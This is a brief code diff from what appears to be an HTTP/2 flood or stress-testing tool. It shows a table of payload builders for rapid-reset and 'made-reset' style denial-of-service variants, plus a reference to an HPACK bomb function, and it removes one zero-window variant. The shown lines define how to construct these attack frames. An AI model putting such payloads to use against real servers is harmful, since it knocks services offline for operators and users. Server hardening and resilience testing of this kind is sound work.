@@ -145,7 +145,6 @@ def hpack_bomb(host):
 FLOODS = {
     "rapid-reset": ("resets", lambda i, host: headers(odd(i), request(host)) + frame(RST, 0, odd(i), struct.pack(">I", 8))),
     "made-reset-window": ("made_resets", lambda i, host: headers(odd(i), request(host, path=b"/large.bin")) + window(odd(i), 0x7FFFFFFF)),
-    "made-reset-zero": ("made_resets", lambda i, host: headers(odd(i), request(host, path=b"/large.bin")) + window(odd(i), 0)),
     "made-reset-malformed": ("made_resets", lambda i, host: headers(odd(i), [(b":method", b"GET")])),
     "made-reset-length": ("made_resets", lambda i, host: headers(odd(i), request(host, b"POST", more=[(b"content-length", b"9")]), end=False)
                           + frame(DATA, END_STREAM, odd(i), b"abc")),
